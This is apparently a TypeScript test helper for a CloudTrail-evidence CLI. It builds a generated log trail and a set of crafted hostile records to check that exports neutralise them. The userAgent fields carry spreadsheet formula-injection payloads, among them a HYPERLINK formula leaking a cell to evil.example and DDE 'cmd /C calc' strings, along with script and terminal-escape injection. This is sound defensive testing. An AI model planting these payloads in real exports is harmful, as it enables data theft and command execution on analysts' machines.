/**
 * Shared set-up for the evidence tests: a real case built by the real CLI from a small generated trail
 * plus a crafted NDJSON file of hostile values, and readers for what a bundle holds.
 */
import {spawnSync} from 'node:child_process';
import {readdirSync, readFileSync, statSync, writeFileSync} from 'node:fs';
import path from 'node:path';
import {gunzipSync} from 'node:zlib';
import {generateTrail, type GenerateSummary} from '../../source/generator/generate.js';
import {cliPath, repoRoot, runCli, tempDir, type CliResult} from '../helpers/cli.js';

export {cliPath, repoRoot, runCli, tempDir};

export const corpus = path.resolve(repoRoot, '..', 'shared', 'datasets');

/** Fails with the command's output, so a broken CLI call explains itself in the test report. */
export function ok(result: CliResult, expected = 0): CliResult {
	if (result.status !== expected) throw new Error(`exit ${result.status} (wanted ${expected})\nstdout: ${result.stdout}\nstderr: ${result.stderr}`);
	return result;
}

type Json = Record<string, unknown>;

function base(eventID: string | undefined, extra: Json): Json {
	const record: Json = {
		eventVersion: '1.08',
		userIdentity: {type: 'IAMUser', arn: 'arn:aws:iam::111122223333:user/mallory', accountId: '111122223333', userName: 'mallory'},
		eventTime: '2024-05-01T12:00:00Z',
		eventSource: 'iam.amazonaws.com',
		eventName: 'CreateAccessKey',
		awsRegion: 'us-east-1',
		sourceIPAddress: '203.0.113.9',
		userAgent: 'aws-cli/2.15.0',
		requestParameters: {userName: 'mallory'},
		responseElements: null,
		eventID,
		readOnly: false,
		eventType: 'AwsApiCall',
		recipientAccountId: '111122223333',
		eventCategory: 'Management',
		...extra,
	};
	if (eventID === undefined) delete record['eventID'];
	return record;
}

/**
 * Records whose attacker-chosen fields start with spreadsheet formula characters or carry Markdown and
 * terminal escapes; two records share an eventID and one has none (both happen in real exports).
 */
export const HOSTILE: Json[] = [
	base('hostile-eq', {userAgent: '=HYPERLINK("http://evil.example/?x="&A1,"click")', eventTime: '2024-05-01T12:00:01Z'}),
	base('hostile-plus', {userAgent: '+cmd|" /C calc"!A0', eventTime: '2024-05-01T12:00:02Z'}),
	base('hostile-minus', {userAgent: '-2+3+cmd|" /C calc"!A0', eventTime: '2024-05-01T12:00:03Z'}),
	base('hostile-at', {userAgent: '@SUM(1+9)*cmd|" /C calc"!A0', eventTime: '2024-05-01T12:00:04Z'}),
	base('hostile-tab', {userAgent: '\t=1+1', eventTime: '2024-05-01T12:00:05Z'}),
	base('hostile-cr', {userAgent: '\r=1+1', eventTime: '2024-05-01T12:00:06Z'}),
	base('hostile-md', {userAgent: '[click](http://evil.example) <script>alert(1)</script> `tick` \u001b[31mred', eventTime: '2024-05-01T12:00:07Z'}),
	base('shared-id', {eventName: 'DeleteTrail', eventTime: '2024-05-01T12:00:08Z'}),
	base('shared-id', {eventName: 'StopLogging', eventTime: '2024-05-01T12:00:09Z'}),
	base(undefined, {eventName: 'NoIdHere', eventTime: '2024-05-01T12:00:10Z'}),
];

export interface BuiltCase {
	dir: string;
	casePath: string;
	trailDir: string;
	hostileFile: string;
	summary: GenerateSummary;
}

/** A case from a ~300-event generated trail plus the hostile records, imported by the real CLI. */
export async function buildCase(prefix = 'trailcase-evidence-'): Promise<BuiltCase> {
	const dir = tempDir(prefix);
	const trailDir = path.join(dir, 'trail');
	const summary = await generateTrail({outDir: trailDir, seed: 11, events: 300, eventsPerFile: 40});
	const hostileFile = path.join(dir, 'hostile.ndjson');
	writeFileSync(hostileFile, HOSTILE.map((r) => JSON.stringify(r)).join('\n') + '\n');
	const casePath = path.join(dir, 'case.duckdb');
	ok(runCli(['import', '-c', casePath, trailDir, hostileFile]));
	return {dir, casePath, trailDir, hostileFile, summary};
}

/** Every record of a generated trail (log files only), by eventID. */
export function trailRecords(trailDir: string): Map<string, Json> {
	const out = new Map<string, Json>();
	const walk = (dir: string): void => {
		for (const name of readdirSync(dir)) {
			const file = path.join(dir, name);
			if (statSync(file).isDirectory()) walk(file);
			else if (name.endsWith('.json.gz') && !file.includes('CloudTrail-Digest')) {
				for (const r of (JSON.parse(gunzipSync(readFileSync(file)).toString('utf8')) as {Records: Json[]}).Records) out.set(String(r['eventID']), r);
			}
		}
	};
	walk(trailDir);
	return out;
}

export function readLines(file: string): string[] {
	return readFileSync(file, 'utf8').split('\n').filter((line) => line !== '');
}

/** RFC 4180 CSV (quoted fields, doubled quotes, CRLF rows) into rows of cells. */
export function parseCsv(text: string): string[][] {
	const rows: string[][] = [];
	let row: string[] = [];
	let cell = '';
	let quoted = false;
	for (let i = 0; i < text.length; i++) {
		const c = text[i]!;
		if (quoted) {
			if (c === '"' && text[i + 1] === '"') {
				cell += '"';
				i++;
			} else if (c === '"') quoted = false;
			else cell += c;
		} else if (c === '"') quoted = true;
		else if (c === ',') {
			row.push(cell);
			cell = '';
		} else if (c === '\r' && text[i + 1] === '\n') {
			row.push(cell);
			rows.push(row);
			row = [];
			cell = '';
			i++;
		} else cell += c;
	}
	if (cell !== '' || row.length > 0) rows.push([...row, cell]);
	return rows;
}

/** Runs a real system binary (sha256sum, openssl, tar) and returns its exit code and output. */
export function system(command: string, args: string[], cwd: string): CliResult {
	const result = spawnSync(command, args, {cwd, encoding: 'utf8'});
	if (result.error) throw result.error;
	return {status: result.status ?? -1, stdout: result.stdout, stderr: result.stderr};
}
